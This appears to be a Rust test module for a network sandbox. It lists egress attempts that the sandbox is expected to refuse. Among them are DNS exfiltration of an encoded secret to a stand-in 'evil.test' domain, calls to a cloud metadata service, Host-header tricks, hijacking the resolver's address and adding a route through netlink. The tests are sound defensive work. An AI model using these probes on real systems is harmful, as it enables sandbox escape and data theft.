//! What a call with listed hosts might try to get elsewhere. Names begin with `egress:`; without listed hosts they mean nothing.

use std::io::{BufRead as _, BufReader, ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};
use std::time::Duration;

use crate::raw::{Argument, call};
use crate::{Attempt, Facts, Outcome, Refused, allowed, refused};

const NOT_REACHED: &[i32] = &[libc::ECONNREFUSED, libc::EACCES, libc::EPERM];
/// Accepted, and then ended with an error.
const CUT_OFF: &[i32] = &[libc::ECONNRESET, libc::EPIPE];
const TAKEN: &[i32] = &[libc::EADDRINUSE, libc::EACCES, libc::EPERM];
/// More than any head that is answered here.
const MOST_HEAD: u64 = 4096;
const RESOLVER: &str = "198.18.0.1:53";
const PATIENCE: Duration = Duration::from_secs(5);

const A: u16 = 1;
const TXT: u16 = 16;

pub(crate) const ALL: &[Attempt] = &[
    allowed("egress:reach_a_listed_host", |facts| {
        let answer = ask(facts, facts.get("listed_host")?, facts.get("listed_host")?)?;
        if answer.contains("200 OK") { Ok(()) } else { Err(Refused::Odd(answer)) }
    }),
    allowed("egress:resolve_over_tcp", |facts| {
        let answer = over_tcp(&question(facts.get("listed_host")?, A))?;
        if answer.get(3).is_some_and(|flags| flags & 0xf == 0) { Ok(()) } else { Err(Refused::Absent) }
    }),
    refused("egress:resolve_another_name", &[], "egress:reach_a_listed_host", |_| {
        ("other.test", 80).to_socket_addrs().map(|_| ()).map_err(|_| Refused::Absent)
    }),
    refused("egress:tell_a_secret_by_a_name", &[], "egress:resolve_over_tcp", |_| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send_to(&question("c2VjcmV0.evil.test", TXT), RESOLVER)?;
        let mut answer = [0; 512];
        socket.recv(&mut answer)?;
        // "No such name", said at once by who asks nobody.
        if answer[3] & 0xf == 3 { Err(Refused::Absent) } else { Ok(()) }
    }),
    refused("egress:send_garbage_to_the_resolver", CUT_OFF, "egress:resolve_over_tcp", |_| {
        let answer = over_tcp(&[0xff; 4000])?;
        if answer.is_empty() { Err(Refused::Absent) } else { Ok(()) }
    }),
    refused("egress:reach_a_listed_server_by_its_address", NOT_REACHED, "egress:reach_a_listed_host", |facts| {
        connect(&format!("127.0.0.1:{}", facts.get("listed_port")?))
    }),
    refused("egress:reach_it_by_its_mapped_address", NOT_REACHED, "egress:reach_a_listed_host", |facts| {
        connect(&format!("[::ffff:127.0.0.1]:{}", facts.get("listed_port")?))
    }),
    refused("egress:reach_another_port_of_a_listed_host", NOT_REACHED, "egress:reach_a_listed_host", |facts| {
        let mut place = place(facts, facts.get("listed_host")?)?;
        place.set_port(1);
        connect(&place.to_string())
    }),
    refused("egress:reach_a_place_that_another_call_has", NOT_REACHED, "egress:reach_a_listed_host", |facts| {
        connect(&format!("198.18.0.60:{}", facts.get("listed_port")?))
    }),
    refused("egress:send_a_datagram_to_a_listed_host", NOT_REACHED, "egress:reach_a_listed_host", |facts| {
        datagram(place(facts, facts.get("listed_host")?)?)
    }),
    refused("egress:reach_a_private_address_by_name", CUT_OFF, "egress:reach_a_listed_host", |facts| {
        ask(facts, "inner.test", "inner.test").map(|_| ())
    }),
    refused("egress:reach_the_metadata_service_by_name", CUT_OFF, "egress:reach_a_listed_host", |facts| {
        ask(facts, "meta.test", "meta.test").map(|_| ())
    }),
    refused("egress:ask_a_listed_host_for_another", CUT_OFF, "egress:reach_a_listed_host", |facts| {
        ask(facts, facts.get("listed_host")?, "other.test").map(|_| ())
    }),
    refused("egress:take_the_resolvers_place", TAKEN, "egress:resolve_over_tcp", |_| {
        UdpSocket::bind(RESOLVER)?;
        Ok(())
    }),
    refused("egress:take_a_listed_hosts_place", TAKEN, "egress:reach_a_listed_host", |facts| {
        TcpListener::bind(place(facts, facts.get("listed_host")?)?)?;
        Ok(())
    }),
    refused("egress:add_a_route", &[libc::EPERM, libc::EACCES], "ask_for_interfaces", |_| {
        let socket =
            call(libc::SYS_socket, vec![libc::AF_NETLINK.into(), libc::SOCK_RAW.into(), libc::NETLINK_ROUTE.into()])?;
        // nlmsghdr (RTM_NEWROUTE with an acknowledgement) and rtmsg: a default route.
        let mut message = 28_u32.to_ne_bytes().to_vec();
        message.extend(libc::RTM_NEWROUTE.to_ne_bytes());
        message.extend(((libc::NLM_F_REQUEST | libc::NLM_F_ACK | libc::NLM_F_CREATE) as u16).to_ne_bytes());
        message.extend([0; 8]);
        message.extend([libc::AF_INET as u8, 0, 0, 0, 254, 4, 0, 1, 0, 0, 0, 0]);
        let none = || Argument::from(0);
        let length = i64::try_from(message.len()).map_err(|error| Refused::Odd(error.to_string()))?;
        call(libc::SYS_sendto, vec![socket.into(), Argument::Bytes(&message), length.into(), none(), none(), none()])?;
        let mut answer = [0; 256];
        call(
            libc::SYS_recvfrom,
            vec![socket.into(), Argument::Buffer(&mut answer), 256.into(), none(), none(), none()],
        )?;
        match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
            0 => Ok(()),
            errno => Err(Refused::Errno(-errno)),
        }
    }),
];

/// Where a listed host is inside.
fn place(facts: &Facts, host: &str) -> Result<SocketAddr, Refused> {
    let found = (host, facts.number("listed_port")?).to_socket_addrs();
    found.ok().and_then(|mut found| found.next()).ok_or(Refused::Absent)
}

fn connect(address: &str) -> Outcome {
    let address: SocketAddr = address.parse().map_err(|_| Refused::Odd(format!("{address} is no address")))?;
    TcpStream::connect_timeout(&address, PATIENCE)?;
    Ok(())
}

/// A refusal comes with the second: the first only causes it.
pub(crate) fn datagram(target: SocketAddr) -> Outcome {
    let unspecified = if target.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(unspecified)?;
    socket.connect(target)?;
    socket.send(b"x")?;
    std::thread::sleep(Duration::from_millis(100));
    socket.send(b"x")?;
    Ok(())
}

/// An HTTP request to one host for another.
fn ask(facts: &Facts, at: &str, host: &str) -> Result<String, Refused> {
    let mut connection = TcpStream::connect_timeout(&place(facts, at)?, PATIENCE)?;
    connection.set_read_timeout(Some(PATIENCE))?;
    connection.write_all(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())?;
    let mut from = BufReader::new(connection.take(MOST_HEAD));
    let mut answer = String::new();
    // The head as a whole: a stream comes in whatever pieces it likes.
    while !answer.ends_with("\r\n\r\n") {
        if from.read_line(&mut answer)? == 0 {
            return Err(if answer.is_empty() { Refused::Absent } else { Refused::Odd(answer) });
        }
    }
    Ok(answer)
}

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut packet = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(u8::try_from(label.len()).unwrap_or(0));
        packet.extend(label.as_bytes());
    }
    packet.push(0);
    packet.extend(kind.to_be_bytes());
    packet.extend(1_u16.to_be_bytes());
    packet
}

/// What the resolver answers over TCP; nothing when it hangs up.
fn over_tcp(question: &[u8]) -> Result<Vec<u8>, Refused> {
    let resolver: SocketAddr = RESOLVER.parse().map_err(|_| Refused::Absent)?;
    let mut connection = TcpStream::connect_timeout(&resolver, PATIENCE)?;
    connection.set_read_timeout(Some(PATIENCE))?;
    let length = u16::try_from(question.len()).unwrap_or(u16::MAX);
    connection.write_all(&length.to_be_bytes())?;
    connection.write_all(question)?;
    let mut answer = Vec::new();
    let mut beginning = [0; 2];
    match connection.read_exact(&mut beginning) {
        Err(error) if error.kind() == ErrorKind::UnexpectedEof => return Ok(answer),
        read => read?,
    }
    answer.resize(usize::from(u16::from_be_bytes(beginning)), 0);
    connection.read_exact(&mut answer)?;
    Ok(answer)
}
